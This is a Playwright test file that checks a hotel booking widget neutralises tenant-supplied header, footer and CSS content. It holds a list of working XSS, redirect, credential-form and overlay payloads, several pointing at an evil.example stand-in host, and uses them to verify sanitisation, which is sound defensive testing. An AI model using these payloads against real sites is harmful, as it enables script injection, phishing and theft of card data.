// The hotel's header and footer HTML and website_css are tenant content: inert, and unable to cover
// or restyle the widget, on the standalone widget and in the chatbot frame.
import AxeBuilder from '@axe-core/playwright';
import { expect, test, type APIRequestContext, type Page, type Route } from '@playwright/test';
import { WIDGET_ORIGIN } from './env';
import { availableStay } from './helpers';
import { sandbox } from './sandbox';

test.beforeEach(async ({ request }) => {
  await sandbox(request).reset();
});

const HOSTILE_HEADER = [
  '<strong>{{facility_name}}</strong>',
  '<img src=x onerror="alert(\'header\')">',
  '<svg><script>alert(1)</script><animate onbegin="alert(2)" attributeName=x dur=1s></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(3)></style></mglyph></table></mtext></math>',
  '<noscript><p title="</noscript><img src=x onerror=alert(4)>">',
  '<a href="jav&#x09;ascript:alert(5)" id="location">Reserve</a>',
  '<a href="https://evil.example/" ping="https://evil.example/ping" target="_top">Top</a>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<base href="https://evil.example/">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<style>@import "https://evil.example/import.css"; body { display: none }</style>',
  '<iframe srcdoc="<script>parent.alert(6)</script>"></iframe>',
  '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x">',
  '<form action="https://evil.example/steal"><input name="card"><button formaction="javascript:alert(7)">Pay</button></form>',
  '<details open ontoggle="alert(8)"><summary>x</summary></details>',
  '<img srcset="https://evil.example/srcset.png 1x" src="data:image/svg+xml,<svg onload=alert(9)>">',
  '<div style="position:fixed;inset:0;z-index:2147483647;background:red">cover</div>',
].join('');

const HOSTILE_FOOTER = [
  '<nav class="hotel-footer"><a href="https://example.com/access">Access</a>',
  '<a href="mailto:stay@example.com">Mail</a>',
  '<a href="javascript:alert(10)">Privacy</a>',
  '<svg><a xlink:href="javascript:alert(11)"><text>svg link</text></a></svg></nav>',
  '<p id="cookie" name="body" onclick="alert(12)">Footer text</p>',
].join('');

const HOSTILE_CSS = [
  '@import url("https://evil.example/css-import.css");',
  '@font-face { font-family: evil; src: url("https://evil.example/font.woff2"); }',
  ':host { position: fixed !important; inset: 0 !important; z-index: 2147483647 !important; height: 100vh !important; }',
  'p, nav, div { position: fixed; top: 0; left: 0; width: 100vw; height: 100vh; z-index: 2147483647; background: url("http://evil.example/bg.png"); }',
  'strong { color: rgb(200, 0, 0); }',
  'body, .bw-main, .bw-card { display: none !important; }',
].join('\n');

/** The real settings of taipei-lotus, with the hostile markup and CSS in them. */
async function hostileSettings(route: Route) {
  const response = await route.fetch();
  const body = (await response.json()) as { data: Record<string, unknown> };
  body.data.header_mode = 'custom';
  body.data.website_header_html = HOSTILE_HEADER;
  body.data.website_footer_html = HOSTILE_FOOTER;
  body.data.website_css = HOSTILE_CSS;
  await route.fulfill({ response, json: body });
}

/** taipei-lotus's results for a stay with rooms left. */
async function resultsPath(request: APIRequestContext, extra = ''): Promise<string> {
  const stay = await availableStay(request, 14, 1);
  return `/booking/result?code=taipei-lotus&locale=en&checkin=${stay.checkin}&checkout=${stay.checkout}&adults=2${extra}`;
}

async function expectInert(page: Page, address: string) {
  const dialogs: string[] = [];
  page.on('dialog', (dialog) => {
    dialogs.push(dialog.message());
    void dialog.dismiss();
  });
  const foreign: string[] = [];
  page.on('request', (request) => new URL(request.url()).origin !== WIDGET_ORIGIN && !request.url().startsWith('data:') && foreign.push(request.url()));
  await page.route('**/api/v1/hotels/taipei-lotus/settings/booking_widget*', hostileSettings);
  await page.goto(address);

  const header = page.locator('.bw-header__custom');
  await expect.poll(() => header.evaluate((el) => el.shadowRoot?.textContent ?? '')).toContain('Lotus');
  const footer = page.locator('.bw-footer .bw-hotel-html');
  await expect.poll(() => footer.evaluate((el) => el.shadowRoot?.textContent ?? '')).toContain('Footer text');
  // The results show, and nothing of the hotel's covers them.
  const card = page.locator('.bw-card').first();
  await expect(card).toBeVisible();
  const covered = await card.evaluate((el) => {
    const box = el.getBoundingClientRect();
    const top = document.elementFromPoint(box.left + box.width / 2, box.top + Math.min(box.height / 2, 40));
    return !el.contains(top);
  });
  expect(covered).toBe(false);
  expect(await header.evaluate((el) => [getComputedStyle(el).position, el.getBoundingClientRect().height <= 160])).toEqual(['static', true]);

  const inside = await page.evaluate(() =>
    ['.bw-header__custom', '.bw-footer .bw-hotel-html'].map((selector) => {
      const root = document.querySelector(selector)!.shadowRoot!;
      const elements = Array.from(root.querySelectorAll('*'));
      return {
        tags: [...new Set(elements.map((el) => el.localName))].sort(),
        handlers: elements.flatMap((el) => Array.from(el.attributes).filter((a) => /^on/i.test(a.name)).map((a) => a.name)),
        ids: elements.filter((el) => el.id || el.getAttribute('name')).length,
        links: Array.from(root.querySelectorAll('a')).map((a) => [a.getAttribute('href'), a.target, a.rel, a.hasAttribute('ping')]),
        sources: Array.from(root.querySelectorAll('img')).map((img) => [img.getAttribute('src'), img.getAttribute('srcset')]),
        strongColour: root.querySelector('strong') ? getComputedStyle(root.querySelector('strong')!).color : null,
      };
    }),
  );
  const [inHeader, inFooter] = inside;
  for (const part of inside) {
    expect(part.tags.filter((tag) => !['a', 'div', 'img', 'p', 'span', 'strong', 'nav'].includes(tag))).toEqual([]);
    expect(part.handlers).toEqual([]);
    expect(part.ids).toBe(0);
    for (const [href, target, rel, ping] of part.links) {
      // A link whose address was refused stays as text that goes nowhere.
      if (href !== null) expect(String(href)).toMatch(/^(https?|mailto|tel):/);
      expect([target, rel, ping]).toEqual(['_blank', 'noopener noreferrer', false]);
    }
    for (const [src, srcset] of part.sources) {
      expect(src === null || /^https?:/.test(String(src))).toBe(true);
      expect(srcset).toBeNull();
    }
  }
  // The hotel's CSS styles its own HTML (a harmless colour) but nothing of it reaches the widget.
  expect(inHeader!.strongColour).toBe('rgb(200, 0, 0)');
  expect(inFooter!.links.map(([href]) => href)).toEqual(['https://example.com/access', 'mailto:stay@example.com', null]);
  await expect(page.locator('main, .bw-main').first()).toBeVisible();

  // Nothing ran, navigated or loaded from elsewhere (an allowed link is only followed when clicked).
  expect(dialogs).toEqual([]);
  expect(new URL(page.url()).origin).toBe(WIDGET_ORIGIN);
  expect(foreign).toEqual([]);
}

test('dangerous header and footer markup and website_css are inert on the standalone widget', async ({ page, request }) => {
  await expectInert(page, await resultsPath(request));
});

test('dangerous header and footer markup and website_css are inert in the chatbot frame', async ({ page, request }) => {
  await expectInert(page, await resultsPath(request, '&iframe=true&fromChatbot=true'));
});

test("taipei-lotus's own header, footer and website_css: styled in their shadow roots, links in a new tab, axe clean", async ({ page, request }) => {
  await page.goto(await resultsPath(request));
  const header = page.locator('.bw-header__custom');
  await expect.poll(() => header.evaluate((el) => el.shadowRoot?.textContent ?? '')).toContain('Lotus Hotel Taipei');
  const look = await header.evaluate((el) => {
    const root = el.shadowRoot!;
    const box = root.querySelector('.lotus-header')!;
    return { display: getComputedStyle(box).display, font: getComputedStyle(box).fontFamily };
  });
  expect(look.display).toBe('flex');
  expect(look.font).toContain('serif');
  const footerLink = await page.locator('.bw-footer .bw-hotel-html').evaluate((el) => {
    const a = el.shadowRoot!.querySelector('a')!;
    return [a.target, a.rel, getComputedStyle(a).textDecorationLine];
  });
  expect(footerLink).toEqual(['_blank', 'noopener noreferrer', 'none']);
  // The widget's own text keeps its look: the hotel's CSS does not reach it.
  await expect(page.locator('.bw-card').first()).toBeVisible();
  expect(await page.locator('.bw-card').first().evaluate((el) => getComputedStyle(el).fontFamily)).not.toContain('Noto Serif TC');
  // The hotel's parts of the page (the skip link's landmark is the shell's).
  const axe = await new AxeBuilder({ page }).include('.bw-header').include('.bw-footer').include('#bw-main').analyze();
  expect(axe.violations.map((v) => [v.id, v.nodes.map((n) => n.target.join(' '))])).toEqual([]);
});
